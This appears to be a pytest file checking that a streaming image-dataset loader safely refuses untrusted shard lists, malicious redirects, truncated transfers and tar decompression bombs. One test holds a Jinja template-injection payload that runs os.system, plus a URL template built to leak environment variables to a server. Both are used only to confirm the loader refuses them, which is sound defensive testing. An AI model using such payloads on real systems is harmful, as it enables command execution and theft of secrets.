"""Facts about a stranger's list of shards: nothing in it runs or is sent, and a broken transfer is damage."""

import base64
import bz2
import gzip
import http.server
import io
import json
import logging
import lzma
import tarfile
import threading
from contextlib import closing
from types import SimpleNamespace

import fsspec
import pytest
from PIL import Image

from ldm.data import DataError
from ldm.data.streaming import StreamingPictureData
from ldm.data.tars import MAX_HEADER, Transport, read_samples, shard_urls


def whole(count: int = 20) -> bytes:
    """A tar of pictures with captions."""
    picture = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(picture, format="PNG")
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for number in range(count):
            for name, data in ((f"{number}.png", picture.getvalue()), (f"{number}.txt", b"red")):
                member = tarfile.TarInfo(name)
                member.size = len(data)
                tar.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


class Answer(http.server.BaseHTTPRequestHandler):
    """A server of one tar and of a list; what it was asked for stays in `server.asked`."""

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        if self.path.startswith("/moved/"):
            self.send_response(302)
            self.send_header("Location", self.server.elsewhere)
            return self.end_headers()
        data = self.server.files.get(self.path.rpartition("/")[2], b"")
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(data[: len(data) // 2] if "/cut/" in self.path else data)

    do_HEAD = do_GET

    def log_message(self, *_: object) -> None:
        """Says nothing."""


@pytest.fixture
def server():
    """A server on this machine."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as running:
        running.asked, running.files = [], {"a.tar": whole()}
        running.url = f"http://127.0.0.1:{running.server_port}"
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield running
        running.shutdown()


def streamed(root: str, *, steps: int = 10, **options) -> list:
    """The batches of some steps."""
    data = StreamingPictureData(root=root, size=16, batch_size=2, shuffle=0, **options)
    data.trainer = SimpleNamespace(max_steps=steps, accumulate_grad_batches=1, global_rank=0, world_size=1)
    return list(data.train_dataloader())


@pytest.mark.parametrize("through", ["file", "data", "http"])
def test_a_list_that_names_templates_runs_nothing_and_sends_nothing(tmp_path, server, monkeypatch, through):
    monkeypatch.setenv("SECRET_CANARY", "hunter2canary")
    canary = tmp_path / "canary"
    command = "{{ cycler.__init__.__globals__.os.system('touch " + str(canary) + "') }}"
    references = {
        "version": 1,
        "templates": {"a": "{{ x }}"},
        "gen": [{"key": command, "url": "x", "dimensions": {"i": [1]}}],
        "refs": {"a.tar": [f"{server.url}/leak/{{{{a.__globals__[os].environ}}}}"]},
    }
    text = json.dumps(references).encode()
    (tmp_path / "refs.json").write_bytes(text)
    server.files["refs.json"] = text
    places = {
        "file": f"file://{tmp_path}/refs.json",
        "data": f"data:application/json;base64,{base64.b64encode(text).decode()}",
        "http": f"{server.url}/refs.json",
    }
    (tmp_path / "shards.txt").write_text(f"reference://a.tar::{places[through]}\n")
    with pytest.raises(DataError, match=r"'reference://a\.tar::.* is refused: data are read from paths and"):
        streamed(str(tmp_path / "shards.txt"))
    assert not canary.exists()
    assert not server.asked


def test_a_list_on_a_server_names_no_file_of_this_machine(tmp_path, server):
    for line in (f"{tmp_path}/private.tar", f"file://{tmp_path}/private.tar", "private.tar"):
        server.files["list.txt"] = line.encode()
        with pytest.raises(DataError, match="a file of this machine: write URLs in it"):
            shard_urls(f"{server.url}/list.txt")
    server.files["list.txt"] = f"{server.url}/a.tar".encode()
    assert len(streamed(f"{server.url}/list.txt")) == 10


def test_a_transfer_that_breaks_is_a_damaged_shard(server, caplog):
    with caplog.at_level(logging.WARNING):
        batches = streamed(f"{server.url}/{{cut,whole}}/a.tar", steps=40, damaged_share=1.0)
    assert len(batches) == 40
    assert f"passed over: shard {server.url}/cut/a.tar is damaged or can't be read" in caplog.text


def test_a_redirect_leads_to_no_file_of_this_machine(server, tmp_path):
    (tmp_path / "private.tar").write_bytes(whole())
    server.elsewhere = f"file://{tmp_path}/private.tar"
    with pytest.raises(DataError, match="is damaged or can't be read"):
        list(read_samples(f"{server.url}/moved/a.tar"))


def test_what_a_client_raises_is_an_oserror_with_its_name(monkeypatch):
    class Client(fsspec.AbstractFileSystem):
        """A client with errors of its own."""

        def _open(self, path, **_):
            raise IndexError("list index out of range")

    fsspec.register_implementation("abfs", Client, clobber=True)
    with (
        pytest.raises(OSError, match="IndexError: list index out of range"),
        closing(Transport("abfs://a.tar")),
    ):
        pass


def test_a_header_that_claims_gigabytes_is_not_read(tmp_path):
    member = tarfile.TarInfo("././@PaxHeader")
    member.type, member.size = tarfile.XHDTYPE, 2**32
    (tmp_path / "a.tar").write_bytes(member.tobuf() + bytes(2 * MAX_HEADER))
    with pytest.raises(DataError, match="a header in it claims 4294967296 bytes"):
        list(read_samples(str(tmp_path / "a.tar")))


@pytest.mark.parametrize("compression", ["gz", "bz2", "xz"])
@pytest.mark.parametrize(
    "sizes", [[2**40], [2**20] * 12], ids=["a member of a terabyte", "members that unpack without end"]
)
def test_a_compressed_tar_is_not_unpacked_without_end(tmp_path, monkeypatch, compression, sizes):
    monkeypatch.setattr("ldm.data.tars.MAX_BYTES", 2**20)
    stream = io.BytesIO()
    for number, size in enumerate(sizes):
        member = tarfile.TarInfo(f"{number}.bin")  # no sample: it would be skipped, which unpacks it
        member.size = size
        stream.write(member.tobuf() + bytes(min(size, 2**20)))
    packed = {"gz": gzip, "bz2": bz2, "xz": lzma}[compression].compress(stream.getvalue())
    (tmp_path / "a.tar").write_bytes(packed)
    with pytest.raises(DataError, match=r"compressed bytes unpack to \d+ and more"):
        list(read_samples(str(tmp_path / "a.tar")))


def test_large_members_of_an_uncompressed_tar_are_passed_over(tmp_path, monkeypatch):
    monkeypatch.setattr("ldm.data.tars.MAX_BYTES", 2**10)
    with tarfile.open(tmp_path / "a.tar", "w") as tar:
        for name, size in (("a.mp4", 2**20), ("b.txt", 3)):
            member = tarfile.TarInfo(name)
            member.size = size
            tar.addfile(member, io.BytesIO(bytes(size)))
    assert [sample["__key__"] for sample in read_samples(str(tmp_path / "a.tar"))] == ["b"]
